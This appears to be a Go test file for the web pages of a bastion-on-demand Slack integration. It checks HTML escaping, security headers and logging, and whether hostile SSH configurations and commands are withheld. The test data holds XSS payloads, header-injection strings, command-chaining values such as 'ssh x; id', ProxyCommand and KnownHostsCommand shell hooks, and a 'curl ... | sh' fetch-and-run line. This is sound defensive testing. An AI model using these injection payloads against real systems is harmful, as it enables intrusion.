package slack

import (
	"net/http"
	"strings"
	"testing"

	"github.com/bastion-on-demand/bastion/internal/api"
	"github.com/bastion-on-demand/bastion/internal/bastion"
)

func TestHostileTextStaysText(t *testing.T) {
	const hostile = `</style><script>alert(1)</script><img src=x onerror=alert(1)>"'><a href="javascript:alert(1)">&lt;b&gt;` + "\u202egnp.exe\x00\r\nSet-Cookie: a=b"
	app := newPageFixture(t, nil)
	b := newVisitor(app, homeV4).open(app.link(func(l *startLink) {
		l.Name, l.Reason, l.Owner, l.Key = hostile, hostile, "slack:"+hostile+":"+hostile, hostile+" AAAA"
		l.UserName, l.TeamDomain = hostile, hostile
	}))
	pages := map[string]string{"start": b.body}

	problem := newPageFixture(t, nil)
	b = newVisitor(problem, homeV4).open(problem.link(nil)).press()
	status := b.head.Get("Location")
	if err := problem.storeProblem(t.Context(), hashOf(lastOf(status)), hostile); err != nil {
		t.Fatal(err)
	}
	pages["problem"] = b.open(status).body

	for _, state := range []bastion.State{bastion.Starting, bastion.Ready, bastion.Failed, bastion.Closed, bastion.State(hostile)} {
		app, status := startedFixture(t)
		found := readyBastion()
		found.State, found.Stage, found.Name, found.Reason, found.SSHConfig, found.SSH = state, hostile, hostile, hostile, hostile, hostile
		found.Keys = []string{hostile}
		setFailure(&found, bastion.FailureCode(hostile), hostile)
		setEnded(&found, bastion.EndReason(hostile), app.now)
		app.returns(found)
		pages[string(state)] = newVisitor(app, homeV4).open(status).body
	}
	for name, page := range pages {
		for _, bad := range []string{"<script>alert", "<img", "onerror=alert(1)>", "<a ", "\u202e", "\x00"} {
			if strings.Contains(page, bad) {
				t.Errorf("%.10s: the page contains %q", name, bad)
			}
		}
		if n := strings.Count(page, "<script>"); n != 1 {
			t.Errorf("%.10s: %d scripts", name, n)
		}
	}
}

// People paste the configuration and the commands without reading them, so they are
// shown only if they match the patterns of harmless ones.
func TestHostileConfigurationIsNotShown(t *testing.T) {
	good := readyBastion()
	for name, spoil := range map[string]func(*Bastion){
		"a ProxyCommand after the host key": func(b *Bastion) {
			b.SSHConfig = strings.Replace(b.SSHConfig, "\n  UserKnown", "\n  ProxyCommand sh -c id\n  UserKnown", 1)
		},
		"a carriage return": func(b *Bastion) { b.SSHConfig += "  User x\rProxyCommand id\n" },
		"Match exec":        func(b *Bastion) { b.SSHConfig += "Match exec id\n" },
		"an Include":        func(b *Bastion) { b.SSHConfig += "Include /tmp/x\n" },
		"another command":   func(b *Bastion) { b.SSHConfig += "  KnownHostsCommand /bin/sh x\n" },
		"a shell in the words": func(b *Bastion) {
			b.SSHConfig += `  KnownHostsCommand /usr/bin/env printf "%%s %%s %%s\n" $(id)` + "\n"
		},
		"another program of env": func(b *Bastion) { b.SSHConfig += "  KnownHostsCommand /usr/bin/env sh -c id\n" },
		"another format": func(b *Bastion) {
			b.SSHConfig = strings.ReplaceAll(b.SSHConfig, `"%%s %%s %%s\n"`, `"%%s\n"`)
		},
		"a cipher with a blank": func(b *Bastion) { b.SSHConfig += "  Ciphers a -b\n" },
		"a token of ssh":        func(b *Bastion) { b.SSHConfig += "  User %h\n" },
		"a comment with a command": func(b *Bastion) {
			b.SSHConfig = "#   curl https://example.com/x | sh\n" + b.SSHConfig
		},
		"another command in the instructions": func(b *Bastion) {
			b.SSHConfig = strings.Replace(b.SSHConfig, "#   sed -n", "#   id; sed -n", 1)
		},
		"instructions for another file": func(b *Bastion) {
			b.SSHConfig = strings.ReplaceAll(b.SSHConfig, "bastion-default.known_hosts", "$HOME/.ssh/authorized_keys")
		},
		"instructions twice": func(b *Bastion) {
			b.SSHConfig = api.WithoutKnownHostsCommand("x; id") + b.SSHConfig
		},
		"a known_hosts line with a command": func(b *Bastion) {
			b.SSHConfig += "# known_hosts: h ssh-ed25519 AAAA' && id\n"
		},
		"an incomplete line":    func(b *Bastion) { b.SSHConfig = strings.TrimSuffix(b.SSHConfig, "\n") },
		"nothing":               func(b *Bastion) { b.SSHConfig = "" },
		"a name with a command": func(b *Bastion) { b.Name = "x; id" },
	} {
		app, status := startedFixture(t)
		found := good
		spoil(&found)
		app.returns(found)
		b := newVisitor(app, homeV4).open(status)
		if strings.Contains(b.body, "<pre") || !strings.Contains(b.text(), "Do not use this bastion") {
			t.Errorf("%s: the page shows it:\n%s", name, b.text())
		}
	}
	const known = `'KnownHostsCommand=/usr/bin/env printf "%%s %%s %%s\n" h ssh-ed25519 AAAA`
	for _, command := range []string{
		"ssh -o 'ProxyCommand=id x' h", "ssh -o ProxyCommand='id x' h", "ssh -o " + known, "ssh -o " + known + "'id h", "ssh -o " + known + ";id' h",
		`ssh -o 'KnownHostsCommand=/usr/bin/env sh "%%s %%s %%s\n" x' h`, "ssh x; id", "ssh x && id", "ssh $(id)", "ssh `id`", "ssh x\nid", "sh -c id", "ssh x | sh", `ssh "x"`, "ssh x > f", "",
	} {
		app, status := startedFixture(t)
		found := good
		found.SSH = command
		app.returns(found)
		if b := newVisitor(app, homeV4).open(status); strings.Contains(b.body, `id="console"`) || !strings.Contains(b.body, `id="save"`) {
			t.Errorf("%q: shown as a command, or the configuration is missing", command)
		}
	}
}

func TestPagesAreSelfContainedAndNotCached(t *testing.T) {
	app, status := startedFixture(t)
	app.returns(readyBastion())
	link := app.link(nil)
	used := app.link(nil)
	newVisitor(app, homeV4).open(used).press()
	for _, request := range []struct{ method, path string }{
		{"GET", link}, {"HEAD", link}, {"POST", link}, {"PUT", link}, {"GET", used}, {"GET", status}, {"POST", status}, {"GET", "/slack/status/x"},
	} {
		b := newVisitor(app, homeV4).do(request.method, request.path, "")
		for name, want := range map[string]string{
			"X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer", "Cache-Control": "no-store",
			"X-Content-Type-Options": "nosniff", "X-Robots-Tag": "noindex, nofollow",
			"Cross-Origin-Opener-Policy": "same-origin", "Cross-Origin-Resource-Policy": "same-origin",
			"Content-Type": "text/html; charset=utf-8",
		} {
			if got := b.head.Get(name); got != want {
				t.Errorf("%s, status %d: %s: %q, want %q", request.method, b.status, name, got, want)
			}
		}
		policy := b.head.Get("Content-Security-Policy")
		for _, part := range []string{"default-src 'none'", "form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"} {
			if !strings.Contains(policy, part) {
				t.Errorf("%s: the policy lacks %s: %s", request.method, part, policy)
			}
		}
		if strings.Contains(policy, "unsafe") || strings.Contains(policy, "http") || strings.Contains(policy, "*") {
			t.Errorf("the policy is too wide: %s", policy)
		}
		if b.head.Get("Permissions-Policy") == "" {
			t.Error("no Permissions-Policy")
		}
		for _, part := range []string{lastOf(request.path), " style=", " onclick=", "src=", `href="http`, "url(", "@import"} {
			if len(part) > 2 && strings.Contains(b.body, part) {
				t.Errorf("%s, status %d: the page contains %q", request.method, b.status, part)
			}
		}
	}
}

// The policy allows the page's own style and script only.
func TestPolicyHasTheHashesOfThePage(t *testing.T) {
	app := newPageFixture(t, nil)
	b := newVisitor(app, homeV4).open(app.link(nil))
	for _, tag := range []string{"style", "script"} {
		_, rest, _ := strings.Cut(b.body, "<"+tag+">")
		text, _, found := strings.Cut(rest, "</"+tag+">")
		if want := tag + "-src " + hashSource(text); !found || !strings.Contains(b.head.Get("Content-Security-Policy"), want) {
			t.Errorf("the policy does not have the hash of the page's %s", tag)
		}
	}
}

// The log has one line for each request, with the route instead of the path.
func TestEachPageRequestHasOneLogLine(t *testing.T) {
	app := newPageFixture(t, nil)
	link := app.link(nil)
	b := newVisitor(app, homeV4)
	b.header.Set("Referer", "https://"+pageHost+link)
	b.open(link).do("POST", link, "proof=x").open(link).press()
	status := b.head.Get("Location")
	b.do("GET", link+"?q="+lastOf(link), "").do("PUT", link, "").open(status)
	lines := strings.Split(strings.TrimSpace(app.log.String()), "\n")
	want := []string{"GET 200", "POST 403", "GET 200", "POST 303", "GET 303", "PUT 405", "GET 200"}
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), app.log)
	}
	for i, line := range lines {
		route := startLinkRoute
		if i == len(lines)-1 {
			route = statusPageRoute
		}
		method, status, _ := strings.Cut(want[i], " ")
		for _, part := range []string{`"method":"` + method + `"`, `"status":` + status, `"route":"` + route + `"`, `"source":"203.0.113.7"`, `"duration":`} {
			if !strings.Contains(line, part) {
				t.Errorf("line %d lacks %s: %s", i, part, line)
			}
		}
	}
}

// A panic gets a page and a log line like any other fault: a Lambda function has no
// net/http server that recovers.
func TestPanicGetsAPage(t *testing.T) {
	app := newPageFixture(t, nil)
	app.Queue = nil
	b := newVisitor(app, homeV4).open(app.link(nil))
	if b.press(); b.status != http.StatusInternalServerError || !strings.Contains(app.log.String(), "panic") {
		t.Errorf("status %d, log:\n%s", b.status, app.log)
	}
}

func TestInvalidRemoteAddressIsAFault(t *testing.T) {
	app := newPageFixture(t, nil)
	for _, from := range []string{"", "pipe", "203.0.113.7", "example.test:80"} {
		b := newVisitor(app, from)
		if b.do("GET", app.link(nil), ""); b.status != http.StatusInternalServerError {
			t.Errorf("from %q: status %d", from, b.status)
		}
	}
}
